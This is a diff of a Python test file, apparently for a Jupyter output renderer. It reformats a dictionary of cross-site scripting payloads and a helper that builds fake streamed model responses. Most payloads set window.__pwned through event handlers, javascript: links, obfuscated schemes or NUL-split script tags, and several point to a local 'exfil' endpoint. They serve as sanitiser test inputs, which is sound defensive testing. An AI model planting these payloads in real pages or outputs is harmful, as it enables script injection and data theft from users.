@@ -31,7 +31,7 @@ WORSE = {
     "details": "<details open ontoggle='window.__pwned=1'><summary>x</summary>y</details>",
     "reference": "![a][b]\n\n[b]: http://127.0.0.1:4999/exfil?c=ref\n\n[c][d]\n\n[d]: javascript:window.__pwned=1",
     "title": '[a](http://127.0.0.1:4999/exfil "x\\" onmouseover=window.__pwned=1 y=\\"")',
-    "info": "```python\" onmouseover=\"window.__pwned=1\n1\n```\n\n```<img src=x onerror=window.__pwned=1>\n2\n```",
+    "info": '```python" onmouseover="window.__pwned=1\n1\n```\n\n```<img src=x onerror=window.__pwned=1>\n2\n```',
     "cell": "| a |\n|---|\n| <img src=x onerror=window.__pwned=1> ![x](http://127.0.0.1:4999/exfil?c=cell) |",
     "heading": "# <img src=x onerror=window.__pwned=1>\n\n## jupyter-config-data",
     "display_math": "$$\\class{x}{\\cssId{jupyter-config-data}{\\href{javascript:window.__pwned=1}{y}}}$$",
@@ -40,7 +40,7 @@ WORSE = {
     "protocol": "[x](//127.0.0.1:4999/exfil) [y](\\\\127.0.0.1:4999\\exfil) [z](vbscript:x) [w](blob:x) <http:/api/kernels>",
     "newline": "[x](java\nscript:window.__pwned=1) [y](java&#10;script:window.__pwned=1) [z](&#x01;javascript:window.__pwned=1)",
     "unclosed": "<img src=x onerror=window.__pwned=1 //\n\n<script>window.__pwned=1//",
-    "widget": "<script type='application/vnd.jupyter.widget-view+json'>{\"model_id\": \"x\"}</script>",
+    "widget": '<script type=\'application/vnd.jupyter.widget-view+json\'>{"model_id": "x"}</script>',
     "nul": "<scr\x00ipt>window.__pwned=1</scr\x00ipt><\x0bimg src=x onerror=window.__pwned=1>",
 }
 #: Everything in an output that this package or the math of the front end did not make.
@@ -83,7 +83,9 @@ def around(prompt: str) -> list[dict[str, Any]]:
     call = {"index": 0, "id": "c", "function": {"name": text, "arguments": text}}
     source = {"title": text, "url": f"https://x.test/{text}"}
     thought = {"choices": [{"index": 0, "delta": {"reasoning_content": text, "tool_calls": [call]}}]}
-    return [thought | {"model": text, "search_results": [source, {"title": text, "url": "javascript:window.__pwned=1"}]}]
+    return [
+        thought | {"model": text, "search_results": [source, {"title": text, "url": "javascript:window.__pwned=1"}]}
+    ]
 
 
 def refused(bird: parrot.Parrot) -> Callable[[Any, wires.Seen], bytes]:
